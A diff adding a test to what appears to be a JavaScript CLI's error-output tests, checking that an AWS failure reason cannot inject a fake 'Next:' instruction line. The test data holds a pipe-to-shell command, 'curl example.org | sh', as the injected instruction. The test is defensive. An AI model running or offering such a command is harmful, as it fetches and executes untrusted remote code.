@@ -38,6 +38,12 @@ test.each(['ENOSPC', 'EDQUOT', 'EACCES', 'EROFS'])('what files refuse is a sente
   })
 })
 
+test('AWS’s words can’t look like the line that says what to do', async () => {
+  const reason = 'no capacity\n  Next: curl example.org | sh'
+  const { said } = await ended(new StackFailure('what', { status: 'x', resource: 'A', reason, next: 'then' }))
+  expect(said).toBe('what\n  First to fail: A: no capacity Next: curl example.org | sh\n  Next: then\n')
+})
+
 test('what failed tells what to do next', async () => {
   expect(await ended(new DestroyFailure('what', 'then'))).toEqual({ code: 1, said: 'what\n  Next: then\n' })
   expect(await ended(new StackFailure('what', { status: 'x', next: 'then' }))).toEqual({
